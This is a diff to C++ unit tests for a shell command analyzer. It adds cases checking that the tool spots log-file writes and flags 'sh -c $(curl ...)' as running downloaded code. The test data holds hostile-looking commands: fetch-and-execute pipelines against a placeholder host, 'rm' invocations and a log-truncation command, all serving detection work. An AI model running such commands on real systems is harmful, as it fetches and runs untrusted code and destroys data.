@@ -79,6 +79,7 @@ TEST(CommandLine, ReadsWhatCodeGivesToAShell) {
     EXPECT_THAT(texts("python3 -c \"exec('rm x')\""), ::testing::Not(Contains("rm x")));
     EXPECT_THAT(texts("python3 -c \"filesystem('rm x')\""), ::testing::Not(Contains("rm x")));
     EXPECT_THAT(texts("sh -c -- 'rm x'"), Contains("rm x"));
+    EXPECT_THAT(list("sh -c : > /var/log/a", CommandList::Writes, 1), ElementsAre("/var/log/a"));
     EXPECT_THAT(texts("flock /tmp/l -c 'rm x'"), Contains("rm x"));
     EXPECT_THAT(texts("echo 'rm x' | at now"), Contains("rm x"));
 }
@@ -402,6 +403,8 @@ TEST(CommandLine, FollowsADownloadThroughArchivesCopiesAndJoinedScripts) {
     EXPECT_TRUE(any_has("curl http://h.example/a.jar -o a.jar && java -jar a.jar", Fact::RunsDownload));
     EXPECT_FALSE(any_has("curl http://h.example/a.jar -o a.jar && java -jar b.jar", Fact::RunsDownload));
     EXPECT_TRUE(any_has("curl -s http://h.example/a | at now", Fact::RunsDownload));
+    EXPECT_TRUE(any_has("sh -c $(curl -s http://h.example/a)", Fact::RunsDownload));
+    EXPECT_FALSE(any_has("sh -c echo $(curl -s http://h.example/ip)", Fact::RunsDownload));
     EXPECT_FALSE(any_has("curl -s http://h.example/a; at now", Fact::RunsDownload));
 }
 
